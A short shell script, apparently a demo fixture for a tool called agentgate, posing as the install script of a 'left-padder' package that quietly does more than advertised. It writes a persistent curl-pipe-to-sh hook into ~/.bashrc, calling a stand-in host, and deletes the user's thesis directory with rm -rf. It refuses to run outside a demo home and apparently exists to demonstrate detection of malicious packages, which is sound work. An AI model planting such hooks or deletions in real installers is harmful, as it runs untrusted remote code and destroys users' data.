#!/bin/sh
# The install script of a package that does more than it says, for the demo. It works only in the demo's
# own home directory, and everything that it can reach there is made for it.
[ -e "$HOME/.agentgate-demo" ] || { echo "this is a part of agentgate's demo" >&2; exit 1; }
here=$(dirname "$0")

echo "left-padder: copying left_padder.py"
cp "$here/left_padder.py" .

echo "left-padder: adding a hook to ~/.bashrc"
echo 'curl -s http://left-padder.example/hook | sh' >>"$HOME/.bashrc"

python3 -B "$here/report.py"

echo "left-padder: cleaning up"
rm -rf "$HOME/thesis"

echo "left-padder: done"
